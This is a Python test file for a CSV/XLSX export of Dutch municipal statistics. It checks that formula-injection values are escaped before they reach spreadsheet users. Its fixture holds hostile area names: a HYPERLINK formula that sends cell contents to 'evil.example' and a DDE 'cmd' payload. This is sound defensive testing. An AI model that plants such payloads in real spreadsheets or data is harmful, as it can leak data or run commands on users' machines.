"""`monitor export`: published figures as CSV for Dutch Excel, safe against formula injection."""

from __future__ import annotations

import codecs
import csv
import io
import os
import stat
from pathlib import Path

import duckdb
import pytest
from babel.numbers import NumberFormatError, parse_decimal
from openpyxl import load_workbook

from demo.sample_publication import sample_frames, write_tables
from orchestration import cli
from orchestration.contract import (
    LEVELS,
    indicator_names,
    is_published_at,
    period_order_sql,
    wide_columns,
)
from orchestration.dictionary import FOLLOWS, GEHEIM, NOT_PUBLISHED, entries, published_entries
from orchestration.export import ExportError, escape_text, export_quarter, format_number
from orchestration.parameters import indicator_by_name, indicator_definitions
from orchestration.publish import publish_quarter

Q = "2026Q3"
NASTY = {  # area code -> a delivered area name a spreadsheet would execute
    "GM0999": '=HYPERLINK("http://evil.example/?x="&A1,"Voorbeeldstad")',
    "WK099901": "@SUM(1+1)",
    "BU09990101": "+31 Oude Haven",
    "BU09990102": "-1+2 Nieuwe Markt",
    "BU09990A01": "\t=cmd|' /C calc'!A0",
    "BU09990A0B": "\r=1+1;Werf",
}


@pytest.fixture
def monitor_path(tmp_path: Path) -> Path:
    """A published monitor.duckdb of the gate's sample quarter, with nasty area names."""
    frames = sample_frames(Q)
    for frame in frames.values():
        frame["area_name"] = frame["area_code"].map(NASTY).fillna(frame["area_name"])
    warehouse = tmp_path / "warehouse.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        write_tables(con, **frames)
    target = tmp_path / "data" / "monitor.duckdb"
    with duckdb.connect(str(warehouse), read_only=True) as con:
        publish_quarter(con, Q, target, run_id="r1", data_version="v1", checks_passed=["x"],
                        n_primary=1, n_secondary=1, synthetic=True)  # fmt: skip
    return target


def read_csv(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
    assert b"\r\n" in data
    text = data[3:].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def published(monitor_path: Path, sql: str) -> list[tuple]:
    with duckdb.connect(str(monitor_path), read_only=True) as con:
        return con.execute(sql, [Q]).fetchall()


def number(cell: str) -> float | None:
    """The value of a cell: none where it is secret or the level has no such figure."""
    return None if cell in (GEHEIM, FOLLOWS, NOT_PUBLISHED) else float(cell.replace(",", "."))


@pytest.mark.parametrize(
    ("text", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+2", "'-1+2"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Oude Haven", "Oude Haven"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_escape_text(text: str, escaped: str) -> None:
    assert escape_text(text) == escaped


@pytest.mark.parametrize(
    ("value", "text"),
    [(12.5, "12,5"), (1234.0, "1234"), (0.000125, "0,000125"), (-3.25, "-3,25"),
     (123456789.125, "123456789,125"), (7, "7"), (1e20, "100000000000000000000")],
)  # fmt: skip
def test_numbers_have_a_decimal_comma_and_no_exponent(value: float, text: str) -> None:
    assert format_number(value) == text
    assert float(text.replace(",", ".")) == value


def labels() -> list[str]:
    """The indicators' Dutch labels, in column order."""
    return [indicator_definitions()[name].label for name in indicator_names()]


KEY_HEADERS = ["Kwartaal", "Soort periode", "Periode", "Gebiedscode", "Gebiedsnaam", "Ligt in"]


def test_every_level_is_written_escaped_and_reads_back_the_same(
    monitor_path: Path, tmp_path: Path
) -> None:
    out = tmp_path / "export"
    paths = export_quarter(monitor_path, Q, "all", out)
    # Dutch file names, as the sheets of the workbook
    assert [p.name for p in paths] == [f"{Q}_{t}.csv" for t in
                                       (*LEVELS, "alle_cellen", "indicatoren")]  # fmt: skip
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in paths)  # no temp files

    geheim = 0
    for level in LEVELS:
        rows = read_csv(out / f"{Q}_{level}.csv")
        assert rows[0] == KEY_HEADERS + labels()  # labels as headers, not codes
        expected = published(
            monitor_path,
            f"select * from main.{level} where quarter = ? order by {period_order_sql()}, area_code",
        )
        assert len(rows) - 1 == len(expected) > 0
        for cells, row in zip(rows[1:], expected, strict=True):
            quarter, period_type, period, code, name, _parent, *values = row
            assert cells[:4] == [quarter, period_type, period, code]
            assert cells[4] == ("'" + name if code in NASTY else name)
            assert cells[4].startswith("'") == (code in NASTY)
            assert [number(c) for c in cells[6:]] == values  # same numbers, NULL = geheim
            geheim += cells[6:].count("geheim")
    assert geheim > 0 and "" not in {c for r in read_csv(out / f"{Q}_buurt.csv") for c in r[6:]}

    long_rows = read_csv(out / f"{Q}_alle_cellen.csv")
    assert long_rows[0] == ["Kwartaal", "Soort periode", "Periode", "Niveau", "Gebiedscode",
                            "Gebiedsnaam", "Ligt in", "Indicator", "Omschrijving", "Waarde",
                            "Status"]  # fmt: skip
    expected = published(
        monitor_path,
        "select area_code, indicator, value, "
        "case status when 'published' then 'gepubliceerd' else 'geheim' end "
        "from main.area_indicators where quarter = ? "
        "order by period_type, area_level, area_code, indicator",
    )
    got = [(c[4], c[7], number(c[9]), c[10]) for c in long_rows[1:]]
    assert got == expected
    texts = indicator_definitions()
    assert all(c[8] == texts[c[7]].label for c in long_rows[1:])
    assert {c[5] for c in long_rows[1:] if c[4] in NASTY} == {"'" + n for n in NASTY.values()}
    suppressed = [c for c in long_rows[1:] if c[10] == "geheim"]
    assert suppressed and all(c[9] == "geheim" for c in suppressed)
    decimals = [c[9] for c in long_rows[1:] if "," in c[9]]
    numbers = [c[9] for c in long_rows[1:] if c[9] != "geheim"]
    assert decimals and not any("." in n or "e" in n.lower() for n in numbers)

    dictionary = read_csv(out / f"{Q}_indicatoren.csv")
    assert dictionary[0][:3] == ["Indicator", "Label", "Definitie"]
    assert [r[1] for r in dictionary[1:]] == labels()


def test_dutch_excel_reads_the_numbers(monitor_path: Path, tmp_path: Path) -> None:
    """What Dutch Excel does on a double-click: UTF-8 by its BOM, a column per ``;``, a number
    in nl_NL notation (parsed here with babel's nl_NL rules), anything else as text."""
    path = export_quarter(monitor_path, Q, "wijk", tmp_path)[0]
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8)
    lines = data.decode("utf-8-sig").split("\r\n")
    header, *rows = [line.split(";") for line in lines if line]
    assert header == KEY_HEADERS + labels() and all(len(r) == len(header) for r in rows)
    expected = published(
        monitor_path,
        f"select * from main.wijk where quarter = ? order by {period_order_sql()}, area_code",
    )
    for cells, row in zip(rows, expected, strict=True):
        for cell, value in zip(cells[6:], row[6:], strict=True):
            if value is None:
                assert cell in (GEHEIM, FOLLOWS, NOT_PUBLISHED)  # not carried: the latter two
                with pytest.raises(NumberFormatError):
                    parse_decimal(cell, locale="nl_NL", strict=True)
            else:
                assert float(parse_decimal(cell, locale="nl_NL", strict=True)) == value


def test_exports_are_readable_by_colleagues(monitor_path: Path, tmp_path: Path) -> None:
    """0644 whatever the umask, like the published file."""
    old = os.umask(0o077)
    try:
        paths = export_quarter(monitor_path, Q, "all", tmp_path / "csv")
        paths += export_quarter(monitor_path, Q, "all", tmp_path / "xlsx", "xlsx")
    finally:
        os.umask(old)
    assert paths and {stat.S_IMODE(p.stat().st_mode) for p in paths} == {0o644}


def test_the_workbook_has_labels_numbers_and_geheim(monitor_path: Path, tmp_path: Path) -> None:
    (path,) = export_quarter(monitor_path, Q, "all", tmp_path, "xlsx")
    assert path.name == f"{Q}_volledig.xlsx"
    book = load_workbook(path, read_only=True)
    assert book.sheetnames == ["regio", "gemeente", "wijk", "buurt", "alle cellen", "indicatoren"]
    kinds = {e.indicator: e.decimalen for e in entries()}
    for level in LEVELS:
        header, *rows = book[level].iter_rows(values_only=True)
        assert list(header) == KEY_HEADERS + labels()
        expected = published(
            monitor_path,
            f"select * from main.{level} where quarter = ? order by {period_order_sql()}, area_code",
        )
        assert len(rows) == len(expected)
        for cells, row in zip(rows, expected, strict=True):
            assert cells[4].startswith("'") == (row[3] in NASTY)
            for name, cell, value in zip(indicator_names(), cells[6:], row[6:], strict=True):
                if value is None:  # a level or period type without the indicator: not secret
                    carried = row[1] in indicator_by_name()[name].period_types()
                    shown = carried and is_published_at(name, level)
                    assert cell == GEHEIM if shown else cell in (FOLLOWS, NOT_PUBLISHED)
                else:
                    assert isinstance(cell, int | float) and cell == value  # a number
                    assert cell == round(cell, kinds[name])
    header, *cells = book["alle cellen"].iter_rows(values_only=True)
    assert header[-2:] == ("Waarde", "Status")
    assert {c[-1] for c in cells} == {"gepubliceerd", "geheim"}
    assert all((c[-2] == "geheim") == (c[-1] == "geheim") for c in cells)
    assert not any(
        isinstance(v, str) and v[:1] in ("=", "+", "-", "@")
        for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for v in row
    )  # fmt: skip


def test_no_cell_starts_a_formula(monitor_path: Path, tmp_path: Path) -> None:
    """Whatever the level: a cell starting with a formula character is a number or escaped."""
    for path in export_quarter(monitor_path, Q, "all", tmp_path):
        for row in read_csv(path)[1:]:
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r"):
                    pytest.fail(f"{path.name}: a cell starts a formula: {cell!r}")
                if cell.startswith("-"):
                    float(cell.replace(",", "."))  # a negative number, nothing else


def test_one_level_and_the_cli(monitor_path: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("MONITOR_DATA_DIR", str(monitor_path.parent))
    assert cli.main(["export", "--quarter", Q, "--level", "wijk"]) == 0
    written = sorted(p.name for p in (monitor_path.parent / "exports").iterdir())
    assert written == [f"{Q}_wijk.csv"]
    out = tmp_path / "elsewhere"
    assert cli.main(["export", "--quarter", Q, "--level", "buurt", "--out", str(out)]) == 0
    assert [len(r) for r in read_csv(out / f"{Q}_buurt.csv")][1:] == [len(wide_columns())] * 4


def test_refuses_what_is_not_published(monitor_path: Path, tmp_path: Path) -> None:
    with pytest.raises(ExportError, match=r"2026Q2 is not published in .* \(published: 2026Q3\)"):
        export_quarter(monitor_path, "2026Q2", "all", tmp_path)
    with pytest.raises(ExportError, match=r"no published file at .*: run `monitor run` first"):
        export_quarter(tmp_path / "missing.duckdb", Q, "all", tmp_path)
    with pytest.raises(ValueError, match="unknown level 'straat'"):
        export_quarter(monitor_path, Q, "straat", tmp_path)
    assert list(tmp_path.glob("*.csv")) == []


def test_a_file_published_before_the_dictionary_is_exported_with_the_seed_labels(
    monitor_path: Path, tmp_path: Path
) -> None:
    """A monitor.duckdb of before docs/migrations.md note 4 has no table indicatoren."""
    old = tmp_path / "old" / "monitor.duckdb"
    old.parent.mkdir()
    old.write_bytes(monitor_path.read_bytes())
    with duckdb.connect(str(old)) as con:
        con.execute("drop table indicatoren")
    (path,) = export_quarter(old, Q, "wijk", tmp_path / "out")
    assert read_csv(path)[0] == KEY_HEADERS + labels()


def test_a_dictionary_published_before_its_newer_columns_is_exported(
    monitor_path: Path, tmp_path: Path
) -> None:
    """A monitor.duckdb of note 4 (docs/migrations.md) has no periode, bronvelden, landelijk:
    its dictionary is exported with those columns empty, the rest as published."""
    old = tmp_path / "old" / "monitor.duckdb"
    old.parent.mkdir()
    old.write_bytes(monitor_path.read_bytes())
    with duckdb.connect(str(old)) as con:
        for column in ("periode", "bronvelden", "landelijk"):
            con.execute(f"alter table indicatoren drop column {column}")
    with duckdb.connect(str(old), read_only=True) as con:
        read = published_entries(con)
    assert [e.label for e in read.values()] == labels()
    assert {(e.periode, e.bronvelden, e.landelijk) for e in read.values()} == {(None, None, None)}
    export_quarter(old, Q, "all", tmp_path / "out")
    dictionary = read_csv(tmp_path / "out" / f"{Q}_indicatoren.csv")
    header = dictionary[0]
    assert [r[1] for r in dictionary[1:]] == labels()
    for name in ("Telt over", "Bronvelden", "Landelijke definitie"):
        assert {r[header.index(name)] for r in dictionary[1:]} == {""}
    export_quarter(monitor_path, Q, "all", tmp_path / "new")
    new = read_csv(tmp_path / "new" / f"{Q}_indicatoren.csv")
    assert new[0] == header and all(r[header.index("Landelijke definitie")] for r in new[1:])
